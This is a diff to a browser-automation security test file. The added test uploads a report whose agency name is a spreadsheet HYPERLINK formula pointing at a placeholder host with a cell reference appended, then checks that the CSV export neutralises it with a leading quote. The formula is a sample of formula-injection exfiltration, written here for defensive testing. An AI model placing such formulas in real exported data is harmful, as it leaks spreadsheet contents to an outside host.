@@ -66,6 +66,20 @@ test.describe("security", () => {
     await expect(page.getByRole("link", { name: NAME })).toBeVisible();
   });
 
+  test("an agency name that is a spreadsheet formula is written to /data.csv as text", async ({ request }) => {
+    const formula = `=HYPERLINK("http://example.invalid/?"&A1,"安全测试公式局")`;
+    const r = await request.post("/api/reports", {
+      multipart: {
+        file: { name: "formula.txt", mimeType: "text/plain", buffer: Buffer.from(seed003As("安全测试公式原名局")) },
+        options: JSON.stringify({ edits: [{ index: 0, agency: formula }] }),
+      },
+    });
+    expect(r.status()).toBe(200);
+    const csv = await (await request.get("/data.csv")).text();
+    const line = csv.split("\r\n").find((l) => l.includes("安全测试公式局"))!;
+    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
+  });
+
   test("security headers: a nonce CSP without unsafe-inline scripts, framing by our pages only, nosniff", async ({ request }) => {
     const first = await request.get("/agencies");
     const h = first.headers();
